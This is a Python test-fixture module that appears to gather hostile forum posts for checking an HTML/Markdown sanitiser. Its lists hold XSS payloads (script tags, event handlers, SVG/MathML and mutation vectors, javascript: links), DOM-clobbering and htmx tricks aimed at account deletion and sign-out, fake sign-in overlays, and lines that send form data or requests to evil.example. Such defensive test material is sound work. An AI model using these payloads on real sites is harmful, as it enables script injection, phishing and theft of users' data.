"""What somebody may write who wants more than to be read.

Each would set `window.pwned`, open a dialog, ask another host, leave the page or change what stands around it, if it
were let.
"""

from itertools import product

RUN = "window.pwned=1;alert(1)"
HOST = "//evil.example"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={HOST}/x.js></script>",
    f"<script\x0c>{RUN}</script\x0c>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"<script type=module>{RUN}</script>",
    f"<script>\n\n{RUN}\n\n</script>",
    f"</script><script>{RUN}</script>",
    f"<%00script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<script\\>{RUN}\\</script\\>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"＜script＞{RUN}＜/script＞",
    f"<noscript><script>{RUN}</script></noscript>",
]

HANDLERS = [
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}" />',
    f"<img src=x\nonerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img/src=`x`onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f'<img """><script>{RUN}</script>">',
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<div onpointerover={RUN} style=position:fixed;inset:0>x</div>",
    f"<p tabindex=0 autofocus onfocus={RUN}>",
    f"<button popovertarget=p>x</button><p popover id=p onbeforetoggle={RUN}>",
    f"<x onanimationstart={RUN} style=animation:found>",
    f"<a href=# onclick={RUN}>x</a>",
    f"<object data=x onerror={RUN}></object>",
    f'<b title="<img src=x onerror={RUN}>">x</b>',
]

SVG_AND_MATHML = [
    f"<svg/onload={RUN}>",
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:text/javascript,{RUN} /></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a><animate attributeName=href values="javascript:{RUN}" /><text y=20>x</text></a></svg>',
    f"<svg><set attributeName=onmouseover to={RUN}>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f"<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload={RUN}></foreignObject></svg>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f'<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/>',
]

# Where each parser sees something else: in the post, in the page, or after the page has been read again.
MUTATION = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={RUN}></annotation-xml></math>',
    f"<math><annotation-xml><svg><foreignObject><img src=x onerror={RUN}>",
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<svg><desc><style><img title='</style><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<select><style></select><img src=x onerror={RUN}></style>",
    f"<select><math><mtext><style></select><img src=x onerror={RUN}>",
    "<plaintext>everything after this",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<iframe><p title="</iframe><img src=x onerror={RUN}>">',
    f'<noembed><p title="</noembed><img src=x onerror={RUN}>">',
    f'<noframes><p title="</noframes><img src=x onerror={RUN}>">',
    f'<title><p title="</title><img src=x onerror={RUN}>">',
    f'<textarea><p title="</textarea><img src=x onerror={RUN}>">',
    f'<style><p title="</style><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!---><img src=x onerror={RUN}>--!>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"`<img src=x` onerror={RUN}>",
    f"<p title=`<img src=x onerror={RUN}>`>",
    f"<a title='`'><img alt='`><img src=x onerror={RUN}>'>",
]

# Out of the post, over the page, or into another place of it.
BREAKING_OUT = [
    *(
        "</div></div></article></main></body></html><h1>Free HBAR</h1>",
        "</p></div><div data-post>Not a post</div>",
        "<div>",
    ),
    *(
        "</code></pre></div>",
        "<div><div><div><ul><li><table><tr><td>",
        "</table></td></tr></div>",
        "<b><i><u><a href=/x>",
    ),
    *(
        "<p>" * 60,
        "</div>" * 60,
        "<table><a href=/x><tr>",
        "<!-- and nothing after this",
        "<!--",
        "<",
        "</",
        "<a",
        '<a href="',
    ),
    *(
        "> </blockquote></div>",
        "- </li></ul></div>",
        "<button>",
        "<option>",
        "<frameset>",
        "<caption>",
        "<head>",
        "<body>",
    ),
    "<div style=position:fixed;inset:0;z-index:9999;background:red>Sign in again</div>",
    f"<style>body{{display:none}}*{{background:url({HOST}/s)}}</style>",
    f"<link rel=stylesheet href={HOST}/s.css>",
    f'<p style="background:url({HOST}/p)">x</p>',
    f"<meta http-equiv=refresh content=0;url={HOST}>",
    f"<base href={HOST}>",
    f"<form action={HOST} id=answer><input name=content><button>Sign in</button></form>",
    "<button form=answer formaction=//evil.example>Send</button>",
    f"<iframe src={HOST}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<embed src={HOST}/x.swf>",
    f"<object data={HOST}></object>",
    f"<portal src={HOST}>",
    f"<video src={HOST}/v poster={HOST}/p autoplay>",
    f"<img srcset={HOST}/i>",
    f"<table background={HOST}/t><tr><td>x</table>",
    f"<a href={HOST} ping={HOST}/ping target=opener>x</a>",
    f"<link rel=dns-prefetch href={HOST}>",
    *(
        "<p id=main>x</p>",
        "<a id=announcer name=location>x</a>",
        "<img name=cookie>",
        "<form name=getElementById>",
        "<p id=x>",
    ),
    *(
        "<a id=defaultView><a id=defaultView name=document>x</a>",
        "<input name=attributes>",
        "<p slot=x is=y part=z>x</p>",
    ),
    *('<div hx-get="/account/delete/" hx-trigger=load>x</div>', "<div data-hx-post=/signout/ hx-trigger=load>x</div>"),
    *(
        "<div class=menu role=dialog aria-modal=true aria-hidden=true>x</div>",
        "<p contenteditable inert hidden dir=rtl>x</p>",
    ),
]

_ADDRESSES = [
    *(
        f"javascript:{RUN}",
        f"JaVaScRiPt:{RUN}",
        f"java&Tab;script:{RUN}",
        f"&#106;avascript&colon;{RUN}",
        f"%6Aavascript:{RUN}",
    ),
    *(
        f"java&#10;script:{RUN}",
        f"&#1;javascript:{RUN}",
        f"javascript&#x3A;{RUN}",
        f"javascript://%0A{RUN}",
        "vbscript:msgbox(1)",
    ),
    *(
        f"data:text/html,%3Cscript%3E{RUN}%3C/script%3E",
        "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
        "file:///etc/passwd",
    ),
    *(
        "blob:https://x/1",
        "view-source:https://x",
        "intent://x#Intent;end",
        HOST,
        r"/\evil.example",
        "https:evil.example",
    ),
    *(
        r"https:\\evil.example",
        "https://localhost@evil.example",
        "///evil.example",
        "#answer",
        "?next=//evil.example",
        "x.html",
    ),
]
_PLACES = [
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x]: {}\n\n[x] and [x][] and [y][x]",
    '[x]({} "title")',
    "[![x]({})](/courses/)",
]

MARKDOWN = [
    *(place.format(address) for place, address in product(_PLACES, _ADDRESSES)),
    *(
        f'[x](/a "\\" onmouseover={RUN} x=\\"")',
        f"[x](/a '\" onclick={RUN} \"')",
        f'[x](/a "</a><img src=x onerror={RUN}>")',
    ),
    *(
        f'![" onerror={RUN} "](/a)',
        f"![<img src=x onerror={RUN}>](https://evil.example/i.png)",
        f"[<img src=x onerror={RUN}>](/a)",
    ),
    *(
        f'[x](https://evil.example/"onclick={RUN})',
        f'https://evil.example/"onmouseover={RUN}',
        f"<https://evil.example/'onclick={RUN}>",
    ),
    *(
        "[a [b](/c) d](/e)",
        "[x]()",
        "[x](<>)",
        "![x]()",
        "[x][]\n\n[x]: <>",
        "https://e.\u3164 [x](https://e.example:99999) <https://%00>",
        "[a <https://evil.example> d](/e)",
        "[**a](/b)**",
        "[x](" + "(" * 40,
        "![" * 40 + "](/a)" * 40,
        "[" * 60 + "](/a)",
    ),
    *(
        f'```"onmouseover={RUN}\nx\n```',
        f"```<script>\n</code></pre></div><script>{RUN}</script>\n```",
        "```python class=x id=main\nx\n```",
    ),
    *(
        f'~~~ "><img src=x onerror={RUN}>\nx\n~~~',
        f"    </code></pre><script>{RUN}</script>",
        f"`</code><script>{RUN}</script>`",
        "```\nunclosed",
    ),
    *(
        f"``` html\n<img src=x onerror={RUN}>\n```",
        f"```php\n<?php {RUN} ?>\n<script>{RUN}</script>\n```",
        "```solidity\n</span></span></div>\n```",
    ),
    f"| a | <img src=x onerror={RUN}> |\n|---|---|\n| </td></table></div> | [x](javascript:{RUN}) |",
    f"| <script>{RUN}</script> |\n|:-:|\n| `</code>` |",
    "|a|\n|-|\n" + "|\n" * 50,
    *(
        f"# <script>{RUN}</script>",
        f'## "onclick={RUN}',
        "# main",
        f"<img src=x onerror={RUN}>\n===",
        "###### {#main .menu onclick=x}",
    ),
    *(
        "> " * 40 + "deep",
        "- " * 40 + "deep",
        "*_" * 200 + "deep",
        "1. " * 30 + "deep",
        "999999999. far out",
        "***" * 300,
    ),
    *(
        f"@amina<img src=x onerror={RUN}>",
        "@../../signout/",
        '@amina" onclick=x',
        "[@amina](//evil.example)",
        "@<script>",
        "`@amina`",
    ),
    *(
        "<!-- htmx --> {% csrf_token %} {{ user.password }} ${7*7} <%= 1 %>",
        "[x][constructor] [y][__proto__]",
        "[__proto__]: /a\n\n[__proto__]",
    ),
]

CHARACTERS = [
    *(
        "\u202eevil\u202d and \u2066isolated",
        "\u2067" * 50 + "never closed",
        "```python\nif admin:\u202e⁦# ⁩⁦ check\u2069\n```",
        "&#x202E;turned",
    ),
    *(
        "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link",
        "a\0b<scr\0ipt>alert(1)</scr\0ipt>",
        "[x](java\0script:alert(1))",
        "&#0;&#27;&#13;",
    ),
    *(
        "\x7f\x80\x9b31m",
        "\ufeff\ufffe\uffff",
        "\u2028\u2029\u0085",
        "e" + "\u0301" * 300,
        "\u200b" * 40,
        "\ufdfd" * 60,
        "x" * 3000,
        "\u3164",
    ),
    *(
        "<\u017fcript>alert(1)</\u017fcript>",
        "<\u0130mg src=x onerror=alert(1)>",
        "\uff1cscript\uff1e",
        "https://evil\u3002example/",
        "\u00a0" * 80,
    ),
    *(
        "https://\u0430pple.example",
        "[x](https://\u202eevil)",
        "mailto:a@b?body=%0D%0ABcc:",
        "[m](mailto:a@evil.example?bcc=x)",
        "[x](/%2F%2Fevil)",
    ),
]

HOSTILE_POSTS = list(
    dict.fromkeys([*SCRIPTS, *HANDLERS, *SVG_AND_MATHML, *MUTATION, *BREAKING_OUT, *MARKDOWN, *CHARACTERS])
)
